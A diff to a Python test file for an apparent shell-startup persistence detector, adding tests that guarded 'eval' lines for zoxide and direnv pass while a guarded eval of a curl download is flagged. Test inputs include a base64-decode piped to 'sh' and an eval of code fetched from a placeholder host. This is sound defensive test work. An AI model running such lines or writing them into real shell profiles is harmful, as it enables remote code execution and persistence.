@@ -72,3 +72,17 @@ def test_node_appending_set_up_lines_and_a_function_is_a_warning(tmp_path: Path)
 def test_node_appending_a_decoding_line_beside_set_up_lines_is_an_error(tmp_path: Path) -> None:
     written = 'eval "$(zoxide init zsh)"\necho aGVsbG8K | base64 -d | sh\n'
     assert _node_persistence(tmp_path, written) == [("PERSISTENCE", "error")]
+
+
+def test_a_set_up_eval_guarded_by_the_tool_being_installed_is_not_running_code(tmp_path: Path) -> None:
+    written = (
+        'type zoxide >/dev/null 2>&1 && eval "$(zoxide init bash)"\n'
+        'hash direnv 2>/dev/null && eval "$(direnv hook bash)"\n'
+        'export PATH="$HOME/bin:$PATH"\n'
+    )
+    assert _persistence(tmp_path, written) == []
+
+
+def test_a_guarded_eval_of_a_download_is_still_an_error(tmp_path: Path) -> None:
+    written = 'command -v curl >/dev/null && eval "$(curl -fsS https://cfg.example.invalid/init)"\n'
+    assert _persistence(tmp_path, written) == [("PERSISTENCE", "error")]
